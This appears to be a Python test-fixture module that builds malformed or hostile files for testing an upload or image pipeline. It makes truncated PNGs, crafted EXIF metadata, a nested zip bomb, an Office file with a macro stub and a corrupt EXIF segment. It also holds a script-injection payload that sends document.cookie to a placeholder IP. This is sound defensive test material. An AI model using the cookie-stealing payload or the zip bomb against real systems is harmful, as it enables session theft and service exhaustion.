"""Files nobody should have to open: built byte by byte, so that each is wrong in exactly one way."""

import io
import random
import struct
import zipfile
import zlib
from functools import cache
from typing import Any

from PIL import ExifTags, Image
from PIL.TiffImagePlugin import IFDRational

SCRIPT = b"<script>fetch('http://198.51.100.7/'+document.cookie)</script>"


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, rows: int) -> bytes:
    """One bit a pixel, all white; `rows` of its rows are there, and its end mark."""
    row = b"\x00" + b"\xff" * ((width + 7) // 8)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packed = zlib.compress(row * rows, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


@cache
def _scene(seed: int, side: int) -> Image.Image:
    colours = random.Random(seed)
    noise = Image.effect_noise((side, side * 3 // 4), 60).convert("RGB")
    return Image.blend(noise, Image.new("RGB", noise.size, tuple(colours.randrange(256) for _ in range(3))), 0.6)


def jpeg(seed: int = 1, side: int = 240, exif: Image.Exif | None = None, mode: str = "RGB") -> bytes:
    """A photo like no other of another seed."""
    made = io.BytesIO()
    more = {"exif": exif} if exif is not None else {}
    _scene(seed, side).convert(mode).save(made, "JPEG", quality=80, **more)
    return made.getvalue()


def picture(mode: str, colour: Any, kind: str, size: tuple[int, int] = (120, 80), **more: Any) -> bytes:
    made = io.BytesIO()
    Image.new(mode, size, colour).save(made, kind, **more)
    return made.getvalue()


def boxed(brand: bytes) -> bytes:
    """The first box of a file of this brand, and a little behind it."""
    brands = brand + b"\x00\x00\x00\x00" + b"mif1" + brand
    return struct.pack(">I", 8 + len(brands)) + b"ftyp" + brands + b"\x00\x00\x00\x08mdat"


def zipped(**files: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return made.getvalue()


def bomb() -> bytes:
    """Sixty-four megabytes in eighty kilobytes, twice over."""
    inner = zipped(zeros_bin=bytes(32 << 20))
    return zipped(a_zip=inner, b_zip=inner)


def office(kind: str) -> bytes:
    return zipped(**{"[Content_Types]_xml": b"<Types/>", f"{kind}__vbaProject_bin": b"\xd0\xcf\x11\xe0macro"})


def notes(taken: str | None = None, place: tuple[Any, Any] | None = None, **more: Any) -> Image.Exif:
    """A camera's notes: its time as written, its latitude and longitude in degrees or as triples, other tags."""
    exif = Image.Exif()
    if taken is not None:
        exif.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.DateTimeOriginal] = taken
    if place is not None:
        gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
        gps[ExifTags.GPS.GPSLatitudeRef], gps[ExifTags.GPS.GPSLongitudeRef] = "N", "E"
        gps[ExifTags.GPS.GPSLatitude], gps[ExifTags.GPS.GPSLongitude] = (
            value if isinstance(value, tuple) else (IFDRational(int(value * 10_000), 10_000), 0.0, 0.0)
            for value in place
        )
    for name, value in more.items():
        exif[getattr(ExifTags.Base, name)] = value
    return exif


def with_notes_of_garbage() -> bytes:
    """A photo whose notes begin as notes do and go on as nothing does."""
    garbage = b"Exif\x00\x00II*\x00\xff\xff\xff\x7f" + b"\xde\xad\xbe\xef" * 20
    whole = jpeg(20)
    return whole[:2] + b"\xff\xe1" + struct.pack(">H", len(garbage) + 2) + garbage + whole[2:]
